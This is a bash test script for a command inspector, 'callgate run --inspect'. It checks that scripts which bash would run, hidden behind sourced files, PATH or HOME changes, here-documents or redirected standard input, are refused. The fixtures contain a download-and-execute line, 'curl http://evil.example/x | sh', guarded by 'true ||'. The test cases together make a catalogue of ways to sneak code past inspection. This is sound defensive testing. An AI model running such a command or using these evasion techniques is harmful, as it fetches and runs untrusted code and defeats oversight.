#!/bin/bash
# What a shell changes for the commands that it runs later, as bash has it: in each of these cases bash runs what is
# hostile, and callgate run --inspect refuses that, or says that it does not know. All here-documents are looked at.
. "$(dirname "$0")/../lib.sh"
need jq python3
export CALLGATE_PARSERS=$SRC/cli/inspect/parsers
mkdir -p "$T/w/sub/deep" "$T/w/bin" "$T/w/home"
cd "$T/w" || exit 99
bad='import os; open(os.environ["RAN"], "w"); os.system("true || curl http://evil.example/x | sh")'
echo "$bad" >sub/bad.py
echo "$bad" >sub/deep/worse.py
# shellcheck disable=SC2016
printf '#!/bin/sh\n:>"$RAN"; true || curl http://evil.example/x | sh\n' >bin/tool
chmod +x bin/tool
cp bin/tool sub/evil
echo 'f() { sh; }' >feeder.sh
echo 'cd sub' >lib.sh
echo 'cd deep' >deeper.sh
echo '. ./lib.sh' >outer.sh
# shellcheck disable=SC2016
echo 'PATH=$PWD/../w/bin:$PATH' >unknown.sh
# shellcheck disable=SC2016
echo 'export PATH=bin:$PATH' >path.sh
echo 'HOME=home' >home.sh
echo 'exec <sub/bad.py' >input.sh
echo 'python3 -' >reader.sh
# shellcheck disable=SC2016
echo '[ "$A" ] || { A=1; . ./circle.sh; . ./lib.sh; }' >circle.sh
echo 'cp bin/tool home/.bash_profile; . ./path.sh' >own.sh
# shellcheck disable=SC2016
echo 'PATH=bin:$PATH' >home/.bashrc
cp bin/tool home/.bash_profile

number=0
# looks SCRIPT [REASON]: bash runs it; a run is refused for what is in it, or for the reason.
looks()
{
	local script=$1 reason=${2:-download-run}

	number=$((number + 1))
	rm -f "$T/ran"
	echo "$script" >"$T/w/script.sh"
	RAN=$T/ran HOME=$T/w/home timeout 100 bash script.sh </dev/null >"$T/bash.out" 2>&1
	[ -e "$T/ran" ] || fail "bash does not run it: $script: $(cat "$T/bash.out")"
	cg run --profile extended -r "$T/w" -p "$T/policy.json" --env "HOME=$T/w/home" --workdir "$T/w" -- \
		bash script.sh >"$T/out" 2>"$T/err"
	if [ $? != 126 ] || ! grep -q "$reason" "$T/err"; then
		fail "case $number: not refused for $reason: $script: $(cat "$T/err")"
	fi
}
echo '{"version": 1, "inspect": {"refuse": ["alarm", "not-looked-at"]}}' >"$T/policy.json"

# here-documents
for first in 'print(1)' ''; do
	looks "python3 - <<E
$first
E
python3 - <<E
$bad
E"
	looks "sh reader.sh <<E
$first
E
sh reader.sh <<E
$bad
E"
done
looks "sh reader.sh; sh reader.sh <<E
$bad
E"
# directories
looks '. ./lib.sh; python3 bad.py'
looks 'source ./lib.sh; python3 bad.py'
looks '. ./outer.sh; python3 bad.py'
looks 'A=1 command . ./lib.sh; python3 bad.py'
looks '. ./lib.sh; cd deep; python3 worse.py'
looks 'cd sub; . ../deeper.sh; python3 worse.py'
looks 'cd .; . ./lib.sh; . ../deeper.sh; python3 worse.py'
looks '. ./circle.sh; python3 bad.py'
looks 'if true; then eval ". ./lib.sh"; fi; python3 bad.py'
looks 'bash -c ". ./lib.sh; true"; bash -c ". ./lib.sh; python3 bad.py"'
looks 'f() { . ./lib.sh; }; f; python3 bad.py'
# the script's own directory
# shellcheck disable=SC2016
{
	echo '. "$(dirname "${BASH_SOURCE[0]}")/evil"' >sub/source.sh
	echo '. "$(dirname "$0")/sub/evil"' >sub/main.sh
	looks '. "$(dirname "$0")/sub/evil"'
	looks '. `dirname -- $0`/sub/evil'
	looks 'source "$(cd -P -- "$(dirname -- "${BASH_SOURCE[0]}")" >/dev/null 2>&1 && pwd -P)/sub/evil"'
	looks 'here=$(dirname "$(readlink -f "$0")"); below=$here/sub; bash "${below}/evil"'
	looks 'cd "$(dirname "$0")/sub" && python3 bad.py'
	looks 'cd "$(dirname "$0")"; cd sub; python3 bad.py'
	looks '. "$(dirname "$0")/sub/source.sh"'
	looks '. "$(dirname "$0")/sub/main.sh"'
	looks 'here=$(dirname "$0"); here=$(pwd); . "$here/sub/evil"' 'what the shell puts together'
}
# PATH
looks '. ./path.sh; tool'
looks 'bash -c ". ./path.sh; true"; bash -c ". ./path.sh; tool"'
looks 'bash -ic true; bash -ic tool'
looks '. ./own.sh; tool'
looks 'BASH_ENV=path.sh bash -c tool'
looks '. ./unknown.sh; tool' 'not-looked-at: what PATH'
# HOME, and standard input
looks 'HOME=/; . ./home.sh; bash -lc :' 'HOME is not known'
looks '. ./input.sh; python3 -' 'read from standard input'
looks 'exec <sub/bad.py; python3 -' 'read from standard input'
looks "exec <<E
$bad
E
sh reader.sh"
looks 'command exec <sub/evil; sh' 'read from standard input'
looks 'if true; then sh; fi <sub/evil' 'read from standard input'
looks 'cat sub/evil | { :; sh; }' 'read from standard input'
looks '. ./feeder.sh; f <sub/evil' 'read from standard input'
looks 'printf -v PATH bin; tool' 'not-looked-at: what PATH'
# a pipe may go on in the next line
looks 'cat sub/evil |
sh' 'read from standard input'
# What one shell has changed ends with it.
cg run --profile extended -r "$T/w" -p "$T/policy.json" --workdir "$T/w" -- bash -c \
	'bash lib.sh; bash path.sh; bash input.sh; exec 4<lib.sh; python3 -; tool || :' >"$T/out" 2>"$T/err" ||
	fail "state of other shells: $(cat "$T/err")"
# What the parser tells of such changes: bash runs "evil" from standard input, or a program of bin/ along PATH, and that
# a shell's standard input, or PATH, is not the one of before is told.
mkdir -p shells/bin
mkdir -p shells/1 shells/3
for file in evil bin/tool bin/ls 1/tool 3/tool; do
	printf '#!/bin/sh\n: >"%s/w/shells/ran"\n' "$T" >shells/$file
	chmod +x shells/$file
done
python3 - "$SRC" "$T/w/shells" >"$T/out" 2>&1 <<'END' || fail "what shells change: $(cat "$T/out")"
import json, os, subprocess, sys
sys.dont_write_bytecode = True
sys.path.insert(0, sys.argv[1] + "/cli/inspect/parsers")
from findings import Findings
from shell import Commands, Looker
os.chdir(sys.argv[2])
failed = 0
for line in open(sys.argv[1] + "/tests/cases/inspect-shells.txt"):
    kind, _, text = line.rstrip("\n").partition(" ")
    text = text.replace("\\n", "\n")
    commands, findings = Commands(), Findings()
    Looker(findings, None, commands).look_at(text)
    commands.add_end(1)
    subprocess.run(["bash", "-c", text], stdin=subprocess.DEVNULL, capture_output=True, timeout=20)
    runs = os.path.exists("ran") and not os.unlink("ran")
    told = [json.loads(told) for _, told in commands.lines]
    if kind == "input":
        shells = [command for command in told if {"sh", "bash"} & set(command.get("words", []))]
        tells = bool(shells) and all(shell["input"] for shell in shells)
    else:
        words = {word for command in told for word in command.get("words", [])}
        tells = "PATH=$" in words or any({"bin", "."} & {*command.get("paths", [])} for command in told)
    if not runs or not tells:
        print(line.strip(), "runs" if runs else "runs not", "told" if tells else "not told")
        failed = 1
sys.exit(failed)
END
echo "$number cases"
